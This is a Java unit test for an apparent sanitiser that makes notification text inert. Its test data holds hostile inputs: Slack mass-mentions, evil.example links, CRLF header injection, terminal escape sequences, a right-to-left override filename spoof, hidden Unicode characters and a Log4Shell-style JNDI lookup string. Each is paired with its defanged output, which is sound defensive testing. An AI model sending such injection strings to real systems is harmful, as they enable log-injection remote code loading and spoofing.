package dev.vedette.notify;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class InertTextTest {
    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("plain words, gpt-4.1 and fs.read(x)", "plain words, gpt-4.1 and fs.read(x)"),
                Arguments.of("Grüße 你好 🙂", "Grüße 你好 🙂"),
                Arguments.of("@channel look", "[at]channel look"),
                Arguments.of("<!here> <@U012>", "‹!here› ‹[at]U012›"),
                Arguments.of("see https://evil.example/a.b?c=d now", "see hxxps[:]//evil[.]example/a.b?c=d now"),
                Arguments.of("HTTP://Evil.example", "HxxP[:]//Evil[.]example"),
                Arguments.of("slack://x.y and then a.b", "slack[:]//x[.]y and then a.b"),
                Arguments.of("www.evil.example/x", "www[.]evil[.]example/x"),
                Arguments.of("[click](https://evil.example)", "[click] (hxxps[:]//evil[.]example)"),
                Arguments.of("a\r\nHost: b\tc", "a  Host: b c"),
                Arguments.of("\u001b[31mred\u001b[0m \u001b]0;title\u0007x", "red ]0;titlex"),
                Arguments.of("\u009b31mx", "31mx"),
                Arguments.of("abc\u202egnp.exe", "abcgnp.exe"),
                Arguments.of("a\u200bb\u2060c\ufeffd\u00ade", "abcde"),
                Arguments.of("hid\udb40\udc61den\ufe0f\udb40\udd00", "hidden"),
                Arguments.of("line\u2028separator", "line separator"),
                Arguments.of("lone \ud800 surrogate", "lone  surrogate"),
                Arguments.of("${jndi:ldap://evil.example/a} %n {}", "${jndi:ldap[:]//evil[.]example/a} %n {}"),
                Arguments.of("\u001b[", "["),
                Arguments.of("", ""));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void becomesHarmless(String raw, String expected) {
        assertThat(InertText.of(raw, 1000)).isEqualTo(expected);
    }

    @Test
    void isCut() {
        assertThat(InertText.of("x".repeat(10_000_000), 100)).hasSize(101).endsWith("…");
    }

    @Test
    void isLinearInEscapesAndColons() {
        String hostile = "\u001b[0;0;0;".repeat(200_000) + "://".repeat(200_000) + "](".repeat(200_000);

        assertThat(InertText.of(hostile, Integer.MAX_VALUE - 100)).doesNotContain("\u001b");
    }
}
